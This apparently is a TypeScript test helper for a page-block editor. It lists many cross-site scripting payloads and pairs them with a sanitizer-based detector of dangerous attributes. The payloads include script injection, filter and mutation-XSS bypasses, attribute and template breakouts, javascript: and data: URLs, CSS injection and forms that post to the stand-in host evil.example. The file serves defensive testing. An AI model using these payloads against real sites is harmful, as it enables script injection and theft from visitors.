import sanitize from 'sanitize-html';
import type { BlockProps } from '#contract/document.ts';
import type { Field, Fields } from '#pages/blocks/block.ts';

/** What hostile content would do, where it runs. */
const act = 'alert(document.domain)';
/** Where hostile content would load from, send to or lead to. */
export const foe = 'evil.example';
const there = `https://${foe}`;
const encoded = Buffer.from(`<script>${act}</script>`).toString('base64');

/** What stands where HTML may stand. */
export const hostileElements = [
  `<script>${act}</script>`,
  `<scr<script>ipt>${act}</script>`,
  `<script src=${there}/x.js></script>`,
  `<svg onload=${act}>`,
  `<svg><script>${act}</script></svg>`,
  `<svg><animate onbegin=${act} attributeName=x dur=1s>`,
  `<svg><a xlink:href="javascript:${act}"><text x=9 y=9>go</text></a></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg' onload='${act}'/>#x">`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${act}&gt;">`,
  `<noscript><p title="</noscript><img src=x onerror=${act}>">`,
  `<iframe srcdoc="<script>${act}</script>"></iframe>`,
  `<iframe src="javascript:${act}"></iframe>`,
  `<iframe src="${there}"></iframe>`,
  `<object data="data:text/html;base64,${encoded}"></object>`,
  `<embed src="${there}/x.swf">`,
  `<base href="${there}/">`,
  `<meta http-equiv="refresh" content="0;url=${there}">`,
  `<link rel="stylesheet" href="${there}/x.css">`,
  `<style>@import url(${there}/x.css);*{background:url(${there}/p)}</style>`,
  `<form action="${there}"><input name="password" autofocus onfocus="${act}"><button>Go on</button></form>`,
  `<button formaction="javascript:${act}">Go on</button>`,
  `<p style="position:fixed;inset:0;z-index:99;background:url(${there}/p)">over all</p>`,
  `<img src=x onerror=${act}>`,
  `<img src="${there}/p.png" srcset="${there}/p2.png 2x">`,
  `<video poster="${there}/p.png"><source src="${there}/f.mp4" onerror="${act}"></video>`,
  `<audio src="${there}/a.mp3" autoplay></audio>`,
  `<table background="${there}/p.png"><tr><td>a cell</td></tr></table>`,
  `<details open ontoggle=${act}>more</details>`,
  `<p tabindex=0 autofocus onfocus=${act}>focus</p>`,
  `<template shadowrootmode=open><img src=x onerror=${act}></template>`,
  `<a id=document name=cookie class="site-header dialog" href="//${foe}" data-island="x" is="x-x">clobber</a>`,
  `<!--><img src=x onerror=${act}>-->`,
  `<![CDATA[><img src=x onerror=${act}>]]>`,
  `<p title="&quot;&gt;&lt;img src=x onerror=${act}&gt;">entities</p>`,
  `&lt;script&gt;${act}&lt;/script&gt;`,
];

/** What breaks out of where text is printed. */
const breaks = [
  `"><img src=x onerror=${act}>`,
  `'><img src=x onerror=${act}>`,
  `" autofocus onfocus="${act}`,
  `' autofocus onfocus='${act}`,
  `x onmouseover=${act} y`,
  `</script><script>${act}</script>`,
  `</style><script>${act}</script>`,
  `</title><script>${act}</script>`,
  `</textarea><script>${act}</script>`,
  `--><script>${act}</script>`,
  `{.section x}{@|safe}<script>${act}</script>{.end}`,
  `{{constructor.constructor('${act}')()}}`,
  `\u2028${act}//`,
  `\\';${act}//`,
  '${' + act + '}',
];

/** What stands where an address is asked for. */
export const hostileAddresses = [
  `javascript:${act}`,
  `JaVaScRiPt:${act}`,
  ` javascript:${act}`,
  `\u0001javascript:${act}`,
  `java\tscript:${act}`,
  `java\nscript:${act}`,
  `javascript&colon;${act}`,
  `&#106;avascript:${act}`,
  `vbscript:${act}`,
  `data:text/html,<script>${act}</script>`,
  `data:text/html;base64,${encoded}`,
  `data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="${act}"/>`,
  `blob:${there}/x`,
  `//${foe}/x`,
  `/\\${foe}/x`,
  `\\\\${foe}\\x`,
  `${there}/x`,
  `${there}/x.png" onerror="${act}`,
  `https://www.youtube.com@${foe}/watch?v=x`,
  `https://www.youtube.com.${foe}/watch?v=aaaaaaaaaaa`,
];

/** What stands where a colour or a size is asked for. */
export const hostileStyles = [
  `red;background:url(${there}/p)`,
  `red}body{background:url(${there}/p)}`,
  `url("${there}/p")`,
  `var(--x,url(${there}/p))`,
  `expression(${act})`,
  `1px;}@import '${there}/x.css';{`,
  `\\75rl(${there}/p)`,
];

/** Hostile HTML, text that breaks out of where it is printed, addresses and styles: all of it stands in every field. */
export const hostileContent: readonly string[] = [...hostileElements, ...breaks, ...hostileAddresses, ...hostileStyles];

/**
 * What the fields of a block hold, each another text, the first that of the index. What a field names is one of `ids`,
 * by its kind, so that the block is shown; the code of a code block runs where its owner wants it to.
 */
export function hostileProps(fields: Fields, at: number, ids: Readonly<Record<string, string>>): BlockProps {
  const valueOf = (field: Field, index: number): unknown => {
    if (field.kind === 'list') return [0, 1].map((row) => hostileProps(field.fields, index + 17 * row, ids));
    if ('isCode' in field && field.isCode) return field.default;
    if (field.kind === 'toggle') return index % 2 === 0;
    return ids[field.kind] ?? hostileContent[index % hostileContent.length];
  };
  return Object.fromEntries(
    Object.entries(fields).map(([name, field], index) => [name, valueOf(field, at + 5 * index)]),
  );
}

/** Attributes by which a browser loads or sends something without being asked. */
const loading = ['src', 'srcset', 'poster', 'data', 'background', 'action', 'formaction', 'xlink:href', 'ping'];
const addressed = [...loading, 'href', 'content'];
const refused = new Set(['base', 'object', 'embed', 'applet', 'frame', 'frameset', 'math', 'animate', 'set']);
const runs = /^(javascript:|vbscript:|data:text|data:image\/svg|blob:)/i;
const isForeign = (value: string) => value.replaceAll('\\', '/').includes(`//${foe}`);
// A browser leaves out what stands before an address, and line breaks in it.
const bare = (value: string) =>
  Array.from(value)
    .filter((letter) => letter > ' ')
    .join('');

/** What in a page would run what an owner or a visitor wrote, or load it from elsewhere, in words. */
export function dangersIn(html: string): string[] {
  const found: string[] = [];
  const note = (tag: string, name: string, value: string) => found.push(`<${tag} ${name}="${value.slice(0, 120)}">`);
  sanitize(html, {
    allowedTags: false,
    allowedAttributes: false,
    allowVulnerableTags: true,
    transformTags: {
      '*': (tag, attribs) => {
        if (refused.has(tag)) note(tag, '', '');
        for (const [name, value] of Object.entries(attribs)) {
          const isSound = tag === 'audio' && attribs.preload === 'none';
          const isLoaded = loading.includes(name) || (name === 'href' && ['link', 'use', 'image'].includes(tag));
          if (name.startsWith('on') || name === 'srcdoc') note(tag, name, value);
          else if (addressed.includes(name) && runs.test(bare(value)) && !(attribs.rel === 'icon'))
            note(tag, name, value);
          else if (isLoaded && !isSound && isForeign(value)) note(tag, name, value);
          else if (name === 'style' && (isForeign(value) || /expression|@import/i.test(value))) note(tag, name, value);
          else if (name === 'http-equiv' && /refresh/i.test(value)) note(tag, name, value);
        }
        return { tagName: tag, attribs };
      },
    },
    exclusiveFilter: ({ tag, attribs, text }) => {
      const isData = tag === 'script' && attribs.type?.endsWith('json');
      if (isData && text.includes('<')) note(tag, 'json', text.slice(text.indexOf('<')));
      if (tag === 'script' && !isData && (text.includes(act) || text.includes(foe))) note(tag, 'text', text);
      if (tag === 'style' && isForeign(text)) note(tag, 'text', text.slice(Math.max(0, text.indexOf(foe) - 60)));
      return false;
    },
  });
  return found;
}
